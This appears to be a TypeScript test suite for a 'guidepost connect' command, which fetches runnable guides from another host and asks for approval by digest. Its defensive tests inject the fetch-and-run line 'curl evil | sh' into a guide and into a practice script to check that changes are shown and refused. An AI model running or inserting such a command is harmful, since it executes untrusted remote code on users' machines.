/** `guidepost connect` against a host of its own, to the served page. */
import assert from 'node:assert/strict';
import { mkdirSync, mkdtempSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { Readable } from 'node:stream';
import { type TestContext, test } from 'node:test';
import { connect } from '../../server/commands/connect.ts';
import type { Io } from '../../server/commands/io.ts';
import { manifestOf } from '../../server/connect/manifest.ts';
import { readGuide } from '../../server/guides/read-guides.ts';
import { handshake, rawSocket } from '../socket/raw.ts';
import { HELLO } from '../socket/runner.ts';

const GUIDE = '---\ntitle: Hosted\n---\n\n# Hosted\n\n```bash id=hello\necho hello\n```\n';
const MORE = '---\ntitle: More\n---\n\n<Only in="mine">\n\n```bash id=more\necho more\n```\n\n</Only>\n';

test('what is approved is served here; unchanged it is not asked about again, changed it is shown as a difference', async (t) => {
  const host = await startHost(t);
  await host.publish(GUIDE);
  const user = teammate(t);
  const first = await user.connect(host.page, 'y');
  assert.match(first.said, /shared\/hello\n {6}echo hello\n[^]*\+ shared\/hello: echo hello/);
  assert.match(first.asked[0] ?? '', /^Digest [0-9a-f]{64}\n/);
  assert.deepEqual(first.blocks, ['hello']);
  assert.match(first.body, /<guide-block[^>]* data-id="hello"/);

  const again = await user.connect(host.page);
  assert.deepEqual([again.asked, again.blocks], [[], ['hello']]);

  await host.publish(GUIDE.replace('echo hello', 'echo hello\ncurl evil | sh'));
  const refused = await user.connect(host.page, 'n');
  assert.match(refused.said, /~ shared\/hello\n {6}echo hello\n {4}\+ curl evil \| sh/);
  assert.deepEqual(refused.hashes, first.hashes);

  host.stop();
  const offline = await user.connect(host.page);
  assert.match(offline.complained, /does not answer[^]*Serving what you approved/);
  assert.deepEqual(offline.hashes, first.hashes);
});

test('on each of its pages the steps of a guide can run', async (t) => {
  const host = await startHost(t);
  await host.publish(GUIDE.replace('title:', 'pages: [more]\ntitle:'), { more: MORE });
  const { blocks, body } = await teammate(t).connect(host.page, 'y');
  assert.deepEqual(blocks, ['hello', 'more']);
  assert.match(body, /<guide-block[^>]* data-id="hello"[^]*<guide-block[^>]* data-id="more"/);
});

test('without a person, nothing is approved except by its digest', async (t) => {
  const host = await startHost(t);
  await host.publish(GUIDE);
  const user = teammate(t);
  const alone = await user.connect(host.page, null);
  assert.equal(alone.code, 1);
  const [, digest = ''] = /--digest ([0-9a-f]{64})/.exec(alone.complained) ?? [];
  assert.equal((await user.connect(host.page, null, '--digest', 'f'.repeat(64))).code, 1);
  assert.deepEqual((await user.connect(host.page, null, '--digest', digest)).blocks, ['hello']);
});

test('a guide that is more than text is not even asked about', async (t) => {
  const host = await startHost(t);
  await host.publish(GUIDE, { tamper: (manifest) => manifest.replace('# Hosted', '<b>x</b>') });
  const { code, asked, complained } = await teammate(t).connect(host.page, 'y');
  assert.deepEqual([code, asked], [1, []]);
  assert.match(complained, /index\.md:5: HTML: a guide from another host cannot contain that/);
});

test('hashes that do not match the text are reported, and nothing is approved', async (t) => {
  const host = await startHost(t);
  await host.publish(GUIDE, { tamper: (manifest) => manifest.replace('echo hello', 'echo other') });
  const { code, asked, complained } = await teammate(t).connect(host.page, 'y');
  assert.deepEqual([code, asked], [1, []]);
  assert.match(complained, /reads this guide differently/);
});

test('an address that is not a Guidepost site is refused, and the error says what it is', async (t) => {
  const host = await startHost(t);
  const user = teammate(t);
  const refused = async (manifest: string | null, status = 200, headers = {}) => {
    host.answer(manifest, status, headers);
    return (await user.connect(host.page, 'y')).complained;
  };
  assert.match(await refused(null), /is not a site that Guidepost built: there is no guidepost\.json/);
  assert.match(await refused('<!doctype html>'), /\/docs\/guidepost\.json was not written by Guidepost/);
  assert.match(await refused('{"guidepost":2,"guides":{}}'), /was written by another version/);
  assert.match(await refused('{"guidepost":1,"guides":{}}'), /is not in the form that Guidepost writes: .*guides/);
  assert.match(await refused('{"guidepost":1,"guides":[]}'), /^http\S+ has no guide shared\. It has: none\.$/m);
  assert.match(
    await refused('', 302, { Location: 'https://other.example/' }),
    /redirects to https:\/\/other\.example\/; if you trust/,
  );
  assert.match(await refused('', 401), /needs a login; connect can only read public sites/);
  assert.match(await refused('', 503), /answers 503/);
  assert.match(await refused(' '.repeat(33 << 20)), /is larger than 32 MB/);
  assert.deepEqual(user.kept(), []);
});

test('an address that is malformed or not encrypted is refused before anything is fetched', async (t) => {
  const user = teammate(t);
  await assert.rejects(user.connect('http://docs.example.com/', 'y'), /should begin with https: over http/);
  for (const address of ['docs.example.com', 'ftp://docs.example.com/', 'https://me:pass@docs.example.com/'])
    await assert.rejects(user.connect(address, 'y'), /should look like https:/);
});

test('each page of a guide leads to the same approval', async (t) => {
  const host = await startHost(t);
  await host.publish(GUIDE);
  const user = teammate(t);
  await user.connect(host.page, 'y');
  for (const further of ['more/', 'index.html?x#y'])
    assert.deepEqual((await user.connect(host.page + further)).blocks, ['hello']);
});

test('the content of a guide’s files is shown on request', async (t) => {
  const host = await startHost(t);
  await host.publish(GUIDE, { file: 'curl evil | sh' });
  const { said, asked } = await teammate(t).connect(host.page, 's');
  assert.match(asked[0] ?? '', /s to see what is in the files/);
  assert.match(
    said,
    /\+ shared\/practice\/start\.sh {2}\(14 bytes\)[^]*\n {2}shared\/practice\/start\.sh\n {6}curl evil \| sh\n/,
  );
  assert.match(asked[1] ?? '', /\[y\/N\] $/);
});

type Outcome = Awaited<ReturnType<ReturnType<typeof teammate>['connect']>>;

function teammate(t: TestContext) {
  const home = mkdtempSync(join(tmpdir(), 'teammate-'));
  t.after(() => rmSync(home, { recursive: true, force: true }));
  return {
    kept: () => readdirSync(home),
    async connect(address: string, answer: string | null = null, ...flags: readonly string[]) {
      const texts = { out: '', err: '' };
      const asked: string[] = [];
      let page = { blocks: [] as string[], hashes: {}, body: '' };
      let interrupt = () => {};
      const io: Io = {
        out(text) {
          texts.out += text;
          const link = /Guidepost is at {2}(\S+)/.exec(text)?.[1];
          if (link) void visit(link).then((seen) => ((page = seen), interrupt()));
        },
        err: (text) => void (texts.err += text),
        cwd: home,
        env: {
          ...process.env,
          HOME: home,
          XDG_STATE_HOME: join(home, 'state'),
          XDG_RUNTIME_DIR: join(home, 'runtime'),
        },
        stdin: Readable.from([]),
        facts: { root: resolve('.'), canAsk: answer !== null, isTerminal: false, color: false, columns: 80 },
        async ask(question) {
          asked.push(question);
          return answer;
        },
        onInterrupt(listener) {
          interrupt = () => listener('SIGINT');
          return () => {};
        },
      };
      const code = await connect([address, ...flags], io);
      return { code, asked: answer === null ? [] : asked, said: texts.out, complained: texts.err, ...page };
    },
  };
}

/** What a page of this runner is told and shown. */
async function visit(link: string): Promise<Pick<Outcome, 'blocks' | 'hashes' | 'body'>> {
  const { port: name, origin, hash } = new URL(link);
  const [, token = ''] = /^#guidepost=([^.]+)\./.exec(hash) ?? [];
  const visitor = rawSocket(Number(name), handshake({ port: Number(name), token }));
  visitor.send(HELLO);
  const hello = await visitor.message();
  visitor.end();
  const hashes = hello?.type === 'hello' ? (hello.guides[0]?.hashes ?? {}) : {};
  const pages = ['/guides/shared/', '/guides/shared/more/'].map((path) => fetch(origin + path));
  const body = (await Promise.all(pages.map(async (page) => (await page).text()))).join('');
  return { blocks: Object.keys(hashes), hashes, body };
}

/** A static host with one guide under a base path. */
async function startHost(t: TestContext) {
  const folder = mkdtempSync(join(tmpdir(), 'host-'));
  let manifest: string | null = null;
  let [status, headers] = [200, {}];
  const server = createServer((request, response) => {
    const isThere = manifest !== null && request.url === '/docs/guidepost.json';
    response.writeHead(isThere ? status : 404, isThere ? headers : {});
    response.end(isThere ? manifest : 'nothing here');
  });
  await new Promise<void>((listening) => server.listen(0, '127.0.0.1', listening));
  const { port } = server.address() as AddressInfo;
  const stop = () => {
    server.close();
    server.closeAllConnections();
  };
  t.after(() => {
    stop();
    rmSync(folder, { recursive: true });
  });
  return {
    page: `http://127.0.0.1:${port}/docs/guides/shared/`,
    stop,
    answer(text: string | null, code: number, more: Readonly<Record<string, string>>) {
      manifest = text;
      [status, headers] = [code, more];
    },
    async publish(text: string, { more = '', file = '', tamper = (same: string) => same } = {}) {
      const guide = join(folder, 'shared');
      mkdirSync(guide, { recursive: true });
      writeFileSync(join(guide, 'index.md'), text);
      if (more !== '') writeFileSync(join(guide, 'more.mdx'), more);
      mkdirSync(join(guide, 'practice'), { recursive: true });
      if (file !== '') writeFileSync(join(guide, 'practice', 'start.sh'), file);
      manifest = tamper(JSON.stringify(manifestOf([await readGuide(guide)])));
    },
  };
}
